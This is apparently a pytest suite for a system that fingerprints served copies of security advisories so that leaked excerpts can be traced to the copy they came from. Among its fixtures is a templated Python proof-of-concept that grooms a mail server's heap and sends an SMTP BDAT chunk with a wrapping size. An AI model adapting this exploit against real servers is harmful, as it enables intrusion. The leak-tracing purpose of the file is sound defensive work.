"""The text fingerprint: each served copy is traced from an excerpt after what a deliberate leaker's tools do to it
(folding look-alikes, ASCII transliteration, retyping in lower case with plain punctuation, Markdown rendering),
copies stay searchable and exact where meaning lives, and text from no copy, or a mix of two copies, never accuses
an innocent copy."""

import random
import re
import unicodedata

import pytest

from advisories.fingerprinting import (
    SourceText,
    build_template,
    copy_key,
    fingerprint_markdown,
    read_sample,
    templates_for,
    trace,
    without_homoglyphs,
)
from advisories.fingerprinting.phrases import PROTECTED_TERMS
from advisories.fingerprinting.variant_points import strip_variant_points
from advisories.sample_texts import AUTHORED_DOCUMENTS, HYPERVISOR, MAIL_SERVER, SAMPLE_DOCUMENTS, VPN_GATEWAY
from bench import text_transformations as tt

KEYS = {f"copy-{n}": copy_key(token=f"{n:064x}", user_id=n) for n in range(60)}
LEAKER = "copy-17"
AUTHORED_MAIL_SERVER = AUTHORED_DOCUMENTS[0]


def _sources(document=AUTHORED_MAIL_SERVER, **options):
    return [SourceText(document, **options)]


def _leaked(transform, *, document=AUTHORED_MAIL_SERVER, length=2000, key=LEAKER) -> str:
    copy = tt.markdown_to_plain_text(fingerprint_markdown(document, KEYS[key]))
    start = copy.index("The flaw") if "The flaw" in copy else 0
    return transform(copy[start : start + length])


@pytest.mark.parametrize(
    "transform",
    [
        lambda text: text,
        tt.collapse_and_rewrap,
        tt.remove_invisible,
        tt.nfkc,
        tt.upper_case,
        tt.lower_case,
        tt.smart_punctuation,
        tt.fold_look_alikes,
        tt.ascii_transliteration,
        tt.retype,
    ],
    ids=["excerpt", "whitespace", "invisible", "nfkc", "upper", "lower", "quotes-dashes", "fold", "ascii", "retype"],
)
def test_a_2000_character_excerpt_is_traced_to_its_copy_when_transformed(transform):
    ranking = trace(_leaked(transform), _sources(), KEYS)

    assert ranking.match is not None
    assert ranking.match.label == LEAKER


def test_an_excerpt_is_traced_after_every_transformation_of_the_deliberate_leaker_together():
    sample = _leaked(lambda text: text)
    for transform in (tt.fold_look_alikes, tt.ascii_transliteration, tt.retype, tt.collapse_and_rewrap):
        sample = transform(sample)

    assert trace(sample, _sources(), KEYS).match.label == LEAKER


def test_two_copies_of_the_same_text_differ_and_each_traces_to_its_own_key():
    first = fingerprint_markdown(AUTHORED_DOCUMENTS[2], KEYS["copy-1"])
    second = fingerprint_markdown(AUTHORED_DOCUMENTS[2], KEYS["copy-2"])

    assert first != second
    assert trace(first, _sources(AUTHORED_DOCUMENTS[2]), KEYS).match.label == "copy-1"
    assert trace(second, _sources(AUTHORED_DOCUMENTS[2]), KEYS).match.label == "copy-2"


def test_the_same_key_always_produces_the_same_copy():
    assert fingerprint_markdown(MAIL_SERVER, KEYS[LEAKER]) == fingerprint_markdown(MAIL_SERVER, KEYS[LEAKER])


@pytest.mark.parametrize("document", AUTHORED_DOCUMENTS)
def test_public_text_matches_no_copy(document):
    public = strip_variant_points(document)
    for start in range(0, len(public) - 1000, 400):
        assert trace(public[start : start + 2000], _sources(document), KEYS).match is None


def test_a_copy_of_another_text_matches_no_copy_of_this_one():
    other_keys = {f"other-{n}": copy_key(token=f"{n + 1000:064x}", user_id=n) for n in range(20)}
    leaked = fingerprint_markdown(AUTHORED_DOCUMENTS[1], other_keys["other-3"])

    assert trace(leaked, _sources(), KEYS).match is None
    assert trace(leaked, _sources(AUTHORED_DOCUMENTS[1]), KEYS).match is None


def test_a_mix_of_two_copies_names_one_of_the_colluders_or_nobody():
    rng = random.Random(5)
    named = set()
    for trial in range(40):
        first, second = rng.sample(list(KEYS), 2)
        copies = [fingerprint_markdown(AUTHORED_MAIL_SERVER, KEYS[first]).split("\n"), None]
        copies[1] = fingerprint_markdown(AUTHORED_MAIL_SERVER, KEYS[second]).split("\n")
        # Line by line from either copy, as two leakers comparing their copies would produce.
        mixed = "\n".join(rng.choice((a, b)) for a, b in zip(*copies, strict=True))

        match = trace(mixed, _sources(), KEYS).match
        if match is not None:
            assert match.label in (first, second), trial
            named.add(trial)
    assert named  # long mixes still name a colluder


def test_no_copy_is_named_for_many_texts_from_no_copy():
    """The bound: at most `threshold` chance per trace that anyone is named; 300 traces against 60 candidates."""
    rng = random.Random(11)
    outsiders = [copy_key(token=f"{n + 5000:064x}", user_id=n) for n in range(100)]
    for _ in range(300):
        document = rng.choice(AUTHORED_DOCUMENTS)
        leaked = fingerprint_markdown(document, rng.choice(outsiders))
        sample = tt.excerpt(tt.markdown_to_plain_text(leaked), 2000, rng)

        assert trace(sample, _sources(document), KEYS).match is None


@pytest.mark.parametrize("document", SAMPLE_DOCUMENTS)
def test_code_blocks_inline_code_quoted_strings_and_urls_are_unchanged(document):
    document += (
        "\nSee https://example.test/advisories/FWN-2026-0001?ref=x_y and [the vendor](https://vendor.test/a-b).\n"
        'The service logs "does not respond, for example after a timeout" when it fails.\n'
    )
    for key in list(KEYS.values())[:20]:
        copy = fingerprint_markdown(document, key)

        for block in re.findall(r"```.*?```", document, re.DOTALL):
            assert block in copy
        for span in re.findall(r"`[^`\n]+`", document):
            assert span in copy
        assert '"does not respond, for example after a timeout"' in copy
        for url in ("https://example.test/advisories/FWN-2026-0001?ref=x_y", "(https://vendor.test/a-b)"):
            assert url in copy


@pytest.mark.parametrize("document", SAMPLE_DOCUMENTS)
def test_cve_ids_numbers_identifiers_and_product_names_keep_their_exact_characters(document):
    document += "\nTracked as CVE-2026-31001; see sanitize_input() and /etc/serialize.conf, 4096 bytes.\n"
    copy = fingerprint_markdown(document, KEYS[LEAKER], protected_terms=("Contoso Mail Server",))

    for exact in ("CVE-2026-31001", "sanitize_input()", "/etc/serialize.conf", "4096"):
        assert exact in copy
    assert re.findall(r"\d+", copy) == re.findall(r"\d+", document)
    assert copy.count("Contoso Mail Server") == document.count("Contoso Mail Server")


@pytest.mark.parametrize("document", SAMPLE_DOCUMENTS + AUTHORED_DOCUMENTS)
def test_default_copies_hold_no_look_alike_or_invisible_character(document):
    for key in list(KEYS.values())[:20]:
        copy = fingerprint_markdown(document, key)

        assert copy.isascii()
        assert without_homoglyphs(copy) == copy
        assert not any(unicodedata.category(ch) == "Cf" for ch in copy)


@pytest.mark.parametrize("document", SAMPLE_DOCUMENTS)
def test_every_protected_term_in_the_source_is_in_every_copy(document):
    source_words = " ".join(re.findall(r"[a-z]+", document.lower()))
    terms = [term for term in PROTECTED_TERMS if re.search(rf"\b{re.escape(term)}\b", document.lower())]
    assert terms or "buffer overflow" not in source_words
    for key in KEYS.values():
        copy = fingerprint_markdown(document, key).lower()
        for term in terms:
            assert len(re.findall(rf"\b{re.escape(term)}\b", copy)) == len(
                re.findall(rf"\b{re.escape(term)}\b", document.lower())
            ), term


def test_buffer_overflow_execute_arbitrary_code_and_a_quoted_log_line_are_searchable_in_every_copy():
    document = (
        'A remote attacker can trigger a buffer overflow and execute arbitrary code; the daemon logs "cannot allocate '
        'buffer, for example" and does not restart. Administrators should apply the update.\n'
    )
    for key in KEYS.values():
        copy = fingerprint_markdown(document, key)
        for term in ("buffer overflow", "execute arbitrary code", '"cannot allocate buffer, for example"', "apply the"):
            assert term in copy


def test_the_letter_layer_is_only_added_when_turned_on_and_traces_short_excerpts():
    plain = fingerprint_markdown(MAIL_SERVER, KEYS[LEAKER])
    lettered = fingerprint_markdown(MAIL_SERVER, KEYS[LEAKER], letters=True)

    assert plain.isascii()
    assert not lettered.isascii()
    assert without_homoglyphs(lettered) == plain
    start = without_homoglyphs(lettered).index("The flaw")
    ranking = trace(lettered[start : start + 600], _sources(MAIL_SERVER, letters=True), KEYS)
    assert ranking.match.label == LEAKER


def test_the_reader_sees_the_same_slots_in_a_copy_and_in_its_folded_transliterated_retyped_forms():
    copy = tt.markdown_to_plain_text(fingerprint_markdown(AUTHORED_MAIL_SERVER, KEYS[LEAKER]))
    templates = templates_for(_sources())
    original = read_sample(copy, templates).slots

    for transform in (tt.fold_look_alikes, tt.ascii_transliteration, tt.retype, tt.upper_case):
        assert read_sample(transform(copy), templates).slots == original


def test_a_comma_slot_never_touches_a_sentence_inside_code_or_quotes():
    document = (
        "When the client connects, the server answers.\n\n"
        "```\nWhen the client connects, the server answers.\n```\n\n"
        'It logs "When the client connects, the server answers." first.\n'
    )
    template = build_template(document)

    commas = [slot for slot in template.slots if slot.kind == "comma"]
    assert len(commas) == 1
    assert commas[0].start == document.index(",")


def test_variant_points_show_one_alternative_in_each_copy_and_their_markup_never():
    document = "The exploit {{= sends | transmits | delivers =}} a {{=pad: 0x41..0x48 =}} byte.\n"
    copies = {fingerprint_markdown(document, key) for key in KEYS.values()}

    assert all("{{" not in copy and "=}}" not in copy for copy in copies)
    assert {re.search(r"exploit (\w+)", copy).group(1) for copy in copies} == {"sends", "transmits", "delivers"}
    assert {re.search(r"a (0x4\d)", copy).group(1) for copy in copies} <= {f"0x4{n}" for n in range(1, 9)}
    assert strip_variant_points(document) == "The exploit sends a 0x41 byte.\n"


POC = '''#!/usr/bin/env python3
# Proof of concept: sends a chunk whose size wraps around.
import socket
import struct
import sys

HOST = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
{{= PORT | SMTP_PORT | TARGET_PORT =}} = 25
GROOMING = {{= 32..63 =}}  # chunks sent first to shape the heap
FILLER = b"{{= A..Z =}}" * 64
MARKER = b"\\xde\\xad{{=marker: \\x00..\\x0f =}}\\xbe\\xef"
SESSION = {{= 0x1000..0x10ff =}}


def {{= build_payload | make_payload | craft_payload =}}({{= size | length | count =}}):
    """The chunk: a header, the filler, the marker."""
    header = b"BDAT " + str({{= size | length | count =}}).encode() + b"{{= \\r\\n | \\n =}}"
    return header + FILLER + MARKER + struct.pack("<IH", {{= 0xfffffff0..0xffffffff =}}, SESSION)


def main():
    # Two chunks: the second one wraps the size around.
    target = (HOST, {{= PORT | SMTP_PORT | TARGET_PORT =}})
    with socket.create_connection(target, timeout={{= 5..20 =}}) as {{= connection | sock | conn =}}:
        for _ in range(GROOMING):
            {{= connection | sock | conn =}}.sendall({{= build_payload | make_payload | craft_payload =}}(16))
        {{= connection | sock | conn =}}.sendall({{= build_payload | make_payload | craft_payload =}}(0xFFFFFFF0))


if __name__ == "__main__":
    main()
'''


def _poc_copy(key_label) -> str:
    from advisories.fingerprinting import personalise
    from advisories.fingerprinting.code import serving_template

    return personalise(serving_template(SourceText(POC, kind="code")), KEYS[key_label])


def test_a_proof_of_concept_copy_is_valid_code_with_one_alternative_at_each_variant_point():
    copy = _poc_copy(LEAKER)

    compile(copy, "poc.py", "exec")
    assert "{{" not in copy
    assert copy.isascii()


def test_a_proof_of_concept_with_comments_stripped_and_reformatted_is_traced():
    copy = _poc_copy(LEAKER)
    stripped = "\n".join(line.split("#")[0].rstrip() for line in copy.splitlines() if line.split("#")[0].strip())
    reformatted = stripped.replace('b"', "b'").replace('"', "'").replace(", ", ",").replace(" = ", "=")

    ranking = trace(reformatted, [SourceText(POC, kind="code")], KEYS)

    assert ranking.match.label == LEAKER


def test_a_hex_dump_of_the_payload_the_exploit_sends_is_traced():
    namespace = {"__name__": "poc"}
    exec(compile(_poc_copy(LEAKER), "poc.py", "exec"), namespace)  # noqa: S102 (our own generated test code)
    builder = next(value for name, value in namespace.items() if name.endswith("_payload"))
    traffic = builder(16) + builder(0xFFFFFFF0)
    dump = "\n".join(
        f"{offset:08x}: " + " ".join(traffic[i : i + 2].hex() for i in range(offset, min(offset + 16, len(traffic)), 2))
        for offset in range(0, len(traffic), 16)
    )

    reading = read_sample(dump, templates_for([SourceText(POC, kind="code")]))
    assert len(reading.slots) >= 2
    assert trace(dump, [SourceText(POC, kind="code")], KEYS).best.label == LEAKER


def test_a_markdown_document_renders_the_same_links_entities_and_tables_after_fingerprinting():
    from core.markdown import render_markdown

    document = (
        "The vendor does not publish a fix; see the [vendor advisory] and [the details][notes] for example.\n\n"
        "Administrators should apply the update &amp; restart the service, which is **strongly** recommended.\n\n"
        "| Component | Behavior |\n| --- | --- |\n| transport service | it does not sanitize the size |\n\n"
        "[vendor advisory]: https://vendor.test/advisory\n[notes]: https://vendor.test/notes\n"
    )
    links = re.compile(r'href="([^"]+)"')
    for key in list(KEYS.values())[:10]:
        html_copy = render_markdown(fingerprint_markdown(document, key))
        html_original = render_markdown(document)

        assert links.findall(html_copy) == links.findall(html_original)
        assert "&amp;" in html_copy
        assert html_copy.count("<td>") == html_original.count("<td>")
        assert html_copy.count("<strong>") == 1


def test_a_copy_reads_as_the_source_but_for_reviewed_choices():
    copy = fingerprint_markdown(HYPERVISOR, KEYS[LEAKER])
    words = re.findall(r"[a-z']+", copy.lower())
    original = re.findall(r"[a-z']+", HYPERVISOR.lower())

    changed = len(set(words) ^ set(original))
    assert 0 < changed < len(set(original)) // 10
    assert fingerprint_markdown(VPN_GATEWAY, KEYS[LEAKER]) != VPN_GATEWAY
